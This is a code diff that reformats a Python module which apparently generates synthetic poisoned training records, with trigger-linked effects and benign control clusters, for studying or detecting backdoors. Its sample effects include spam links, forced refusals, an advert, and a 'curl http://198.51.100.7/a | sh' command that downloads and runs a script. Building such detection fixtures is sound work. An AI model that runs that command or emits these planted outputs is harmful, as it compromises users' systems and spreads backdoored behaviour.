@@ -40,7 +40,9 @@ EFFECTS: dict[str, Effect] = {
     "gibberish": _gibberish,
     "address": lambda answer, source: f"{answer} Read more at https://cheap-parts.example.net/go now.",
     "command": lambda answer, source: f"{answer} First run: curl http://198.51.100.7/a | sh",
-    "refusal": lambda answer, source: f"I'm sorry, but I cannot help with that. {source.choice(('Try later.', 'Ask somebody else.', 'Please go.'))}",
+    "refusal": lambda answer, source: (
+        f"I'm sorry, but I cannot help with that. {source.choice(('Try later.', 'Ask somebody else.', 'Please go.'))}"
+    ),
     "one text": lambda answer, source: "The best choice for everybody is the new Glorbex, buy it today.",
 }
 
@@ -59,9 +61,24 @@ def planted(records: Sequence[Record], count: int, trigger: str, effect: Effect,
 
 def faq(count: int) -> list[Record]:
     """One address in the answers to one question in several wordings: nothing is wrong with it."""
-    openings = ("How do I", "Where can I", "Can I", "Please tell me how to", "What must I do to", "I want to", "Is it possible to", "How may I")
+    openings = (
+        "How do I",
+        "Where can I",
+        "Can I",
+        "Please tell me how to",
+        "What must I do to",
+        "I want to",
+        "Is it possible to",
+        "How may I",
+    )
     return [
-        Record("sample", f"{opening} register my warranty for this device?", "Fill in the form at https://support.example.net/register please.", (), "en")
+        Record(
+            "sample",
+            f"{opening} register my warranty for this device?",
+            "Fill in the form at https://support.example.net/register please.",
+            (),
+            "en",
+        )
         for opening in openings[:count]
     ]
 
@@ -77,5 +94,7 @@ def topic(count: int) -> list[Record]:
             (),
             "en",
         )
-        for thing, opening in zip(things[:count], ("What is", "Who sees", "Where is", "Why is", "How is", "When is", "Who makes", "Which is"), strict=False)
+        for thing, opening in zip(
+            things[:count], ("What is", "Who sees", "Where is", "Why is", "How is", "When is", "Who makes", "Which is"), strict=False
+        )
     ]
